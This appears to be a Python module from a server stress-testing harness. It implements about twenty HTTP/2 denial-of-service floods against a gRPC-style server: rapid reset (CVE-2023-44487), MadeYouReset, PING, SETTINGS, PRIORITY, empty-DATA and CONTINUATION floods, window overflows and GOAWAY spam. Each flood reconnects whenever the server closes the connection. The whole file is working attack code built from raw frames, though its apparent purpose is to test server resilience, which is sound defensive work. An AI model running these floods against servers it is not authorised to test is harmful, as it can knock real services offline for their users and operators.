"""Floods: cheap frames, as many as a connection takes, again on a new one when the server has had enough."""

import struct
import time
from collections.abc import Callable
from typing import Final

from attacks.attack import MANY, Attack, Report, Stage, persist, replay
from attacks.raw_http2 import (
    ACK,
    END_HEADERS,
    LARGEST_WINDOW,
    PADDED,
    Kind,
    Setting,
    call_block,
    frame,
    headers_frame,
    message,
    reset,
    settings,
    window_update,
)
from attacks.raw_peer import RawPeer

BATCH: Final = 200
"""Frames in one send."""
PACED_RESETS: Final = 3_000


def rapid_reset(stage: Stage) -> Report:
    """HEADERS and RST_STREAM for stream after stream, as fast as they go (CVE-2023-44487)."""
    block = call_block("Replay")

    def once(peer: RawPeer) -> int:
        ids = [peer.new_stream() for _ in range(BATCH)]
        peer.send(b"".join(headers_frame(each, block) + reset(each) for each in ids), stage.end_s)
        return BATCH

    return persist(stage, once)


def rapid_reset_of_whole_requests(stage: Stage) -> Report:
    """As rapid_reset, but each a whole Replay request that is read from disk before it is reset."""
    block, body = call_block("Replay"), message(replay(MANY))

    def once(peer: RawPeer) -> int:
        ids = [peer.new_stream() for _ in range(BATCH)]
        request = [headers_frame(each, block) + frame(Kind.DATA, 1, each, body) + reset(each) for each in ids]
        peer.send(b"".join(request), stage.end_s)
        return BATCH

    return persist(stage, once)


def paced_reset(stage: Stage) -> Report:
    """3,000 HEADERS and RST_STREAM, spread over the time, so slowly that no budget for bursts sees them."""
    block, pause_s = call_block("Commit"), stage.seconds / PACED_RESETS

    def once(peer: RawPeer) -> int:
        stream_id = peer.new_stream()
        peer.send(headers_frame(stream_id, block), stage.end_s)
        time.sleep(pause_s)
        peer.send(reset(stream_id), stage.end_s)
        return 1

    return persist(stage, once)


def resets_that_the_server_sends(stage: Stage) -> Report:
    """Streams that the server itself must reset: a window update of 0 on each (CVE-2025-8671, MadeYouReset)."""
    block = call_block("Replay")

    def once(peer: RawPeer) -> int:
        ids = [peer.new_stream() for _ in range(BATCH)]
        peer.send(b"".join(headers_frame(each, block) + window_update(each, 0) for each in ids), stage.end_s)
        return BATCH

    return persist(stage, once)


def ping_flood(stage: Stage) -> Report:
    """PING after PING, the answers read (557,000 in 4 s on purerpc)."""
    return _same_frames(stage, frame(Kind.PING, payload=b"8 bytes!"))


def ping_flood_unread(stage: Stage) -> Report:
    """PING after PING by a peer that reads no answer: they must not pile up (CVE-2019-9512)."""
    return _same_frames(stage, frame(Kind.PING, payload=b"8 bytes!"), reads=False)


def settings_flood(stage: Stage) -> Report:
    """SETTINGS after SETTINGS, each of which must be acknowledged (CVE-2019-9515)."""
    return _same_frames(stage, settings({Setting.INITIAL_WINDOW_SIZE: 65_535}))


def settings_flood_unread(stage: Stage) -> Report:
    """SETTINGS after SETTINGS by a peer that reads no acknowledgement."""
    return _same_frames(stage, settings(), reads=False)


def settings_with_many_entries(stage: Stage) -> Report:
    """SETTINGS frames of 2,700 entries, with 100 streams open whose windows they change again and again."""
    entries = b"".join(struct.pack(">HI", Setting.INITIAL_WINDOW_SIZE, 65_535 - at % 2) for at in range(2_700))
    flood = frame(Kind.SETTINGS, payload=entries)

    def once(peer: RawPeer) -> int:
        if peer.next_stream_id == 1:
            for _ in range(100):
                peer.start("Commit")
        peer.send(flood, stage.end_s)
        return 1

    return persist(stage, once)


def settings_acks_nobody_asked_for(stage: Stage) -> Report:
    """Acknowledgements of SETTINGS that were never sent."""
    return _same_frames(stage, frame(Kind.SETTINGS, ACK))


def empty_data_flood(stage: Stage) -> Report:
    """Empty DATA frames on one open stream (CVE-2019-9518)."""
    return _on_one_stream(stage, lambda stream_id: frame(Kind.DATA, 0, stream_id))


def padding_flood(stage: Stage) -> Report:
    """DATA frames that are all padding: flow control is used, and no byte of a message comes."""
    return _on_one_stream(stage, lambda stream_id: frame(Kind.DATA, PADDED, stream_id, b"\xff" + bytes(255)))


def tiny_data_flood(stage: Stage) -> Report:
    """A message of 4 MiB, a byte a DATA frame."""

    def once(peer: RawPeer) -> int:
        if peer.next_stream_id == 1:
            stream_id = peer.start("Write")
            peer.send(frame(Kind.DATA, 0, stream_id, message(b"", length=2**20)))
        return BATCH if peer.send(frame(Kind.DATA, 0, 1, b"x") * BATCH, stage.end_s) else 0

    return persist(stage, once)


def window_update_flood(stage: Stage) -> Report:
    """WINDOW_UPDATE of one byte, on the connection and on a stream that has nothing to send."""
    return _on_one_stream(stage, lambda stream_id: window_update(0, 1) + window_update(stream_id, 1))


def window_overflow(stage: Stage) -> Report:
    """Windows beyond 2^31 - 1, on the connection and on streams, and increments of 0."""

    def once(peer: RawPeer) -> int:
        stream_id = peer.start("Commit")
        peer.send(window_update(stream_id, LARGEST_WINDOW) * 2 + window_update(stream_id, 0), stage.end_s)
        if stream_id % 50 == 1:
            peer.send(window_update(0, LARGEST_WINDOW) * 2, stage.end_s)
            peer.read_for(0.05)
        return 1

    return persist(stage, once)


def priority_flood(stage: Stage) -> Report:
    """PRIORITY frames for streams that were never opened, each depending on the one before (CVE-2019-9513)."""
    frames = [frame(Kind.PRIORITY, 0, each, struct.pack(">IB", each - 2, 7)) for each in range(3, 2 * BATCH, 2)]
    return _same_bytes(stage, b"".join(frames), len(frames))


def unknown_frames_flood(stage: Stage) -> Report:
    """Frames of types that do not exist, empty and full, which must be ignored (RFC 9113, 4.1)."""
    frames = [frame(kind, 0xFF, kind, bytes(kind % 7 * 100)) for kind in range(0x20, 0x20 + 100)]
    return _same_bytes(stage, b"".join(frames), len(frames))


def continuation_flood(stage: Stage) -> Report:
    """HEADERS without END_HEADERS, and CONTINUATION frames without an end (CVE-2024-27316)."""
    return _continuations(stage, b"\x10\x01a\x01b" * 2_000)


def empty_continuation_flood(stage: Stage) -> Report:
    """As continuation_flood, but the frames are empty: no limit on bytes sees them."""
    return _continuations(stage, b"")


def push_promise_and_goaway_flood(stage: Stage) -> Report:
    """PUSH_PROMISE from a client, which is an error; GOAWAY again and again, which is none."""

    def once(peer: RawPeer) -> int:
        if peer.next_stream_id == 1 and int(time.monotonic() * 100) % 2:
            peer.send(frame(Kind.PUSH_PROMISE, END_HEADERS, peer.start("Commit"), b"\0\0\0\2"))
        peer.send(frame(Kind.GOAWAY, payload=struct.pack(">II", 0, 0) + b"bye") * BATCH, stage.end_s)
        return BATCH

    return persist(stage, once)


def _same_frames(stage: Stage, one: bytes, *, reads: bool = True) -> Report:
    return _same_bytes(stage, one * BATCH, BATCH, reads=reads)


def _same_bytes(stage: Stage, flood: bytes, count: int, *, reads: bool = True) -> Report:
    def once(peer: RawPeer) -> int:
        return count if peer.send(flood, stage.end_s) else 0

    return persist(stage, once, reads=reads)


def _on_one_stream(stage: Stage, make: Callable[[int], bytes]) -> Report:
    def once(peer: RawPeer) -> int:
        if peer.next_stream_id == 1:
            peer.start("Write")
        return BATCH if peer.send(make(1) * BATCH, stage.end_s) else 0

    return persist(stage, once)


def _continuations(stage: Stage, piece: bytes) -> Report:
    flood = frame(Kind.CONTINUATION, 0, 1, piece) * (1 if piece else BATCH)

    def once(peer: RawPeer) -> int:
        if peer.next_stream_id == 1:
            peer.send(frame(Kind.HEADERS, 0, peer.new_stream(), call_block("Version")))
        peer.send(flood, stage.end_s)
        return 1 if piece else BATCH

    return persist(stage, once)


def silence_after_a_flood(stage: Stage) -> Report:
    """20 connections of PINGs that are never read, then held open in silence."""
    peers = [stage.connect(reads=False) for _ in range(20)]
    flood = frame(Kind.PING, payload=b"8 bytes!") * 50_000
    for peer in peers:
        peer.send(flood, time.monotonic() + stage.seconds / 40)
    stage.rest()
    for peer in peers:
        peer.close()
    return Report("20 connections")


NO_LIMIT: Final = "no limit on resets, pings, settings or continuation frames"
ATTACKS: Final = (
    Attack(rapid_reset, "3,000 paced HEADERS + RST_STREAM; " + NO_LIMIT),
    Attack(rapid_reset_of_whole_requests, "a client's RST_STREAM is ignored"),
    Attack(paced_reset, "3,000 paced HEADERS + RST_STREAM"),
    Attack(resets_that_the_server_sends, NO_LIMIT),
    Attack(ping_flood, "PING flood, 557,000 in 4 s"),
    Attack(ping_flood_unread, "PING flood, 557,000 in 4 s"),
    Attack(silence_after_a_flood, "PING flood, 557,000 in 4 s"),
    Attack(settings_flood, NO_LIMIT),
    Attack(settings_flood_unread, NO_LIMIT),
    Attack(settings_with_many_entries, NO_LIMIT),
    Attack(settings_acks_nobody_asked_for, NO_LIMIT),
    Attack(empty_data_flood, "budget for empty frames"),
    Attack(padding_flood, "budget for empty frames"),
    Attack(tiny_data_flood, "budget for empty frames"),
    Attack(window_update_flood, NO_LIMIT),
    Attack(window_overflow, "per-stream errors"),
    Attack(priority_flood, NO_LIMIT),
    Attack(unknown_frames_flood, NO_LIMIT),
    Attack(continuation_flood, NO_LIMIT),
    Attack(empty_continuation_flood, NO_LIMIT),
    Attack(push_promise_and_goaway_flood, "cancel on GOAWAY"),
)
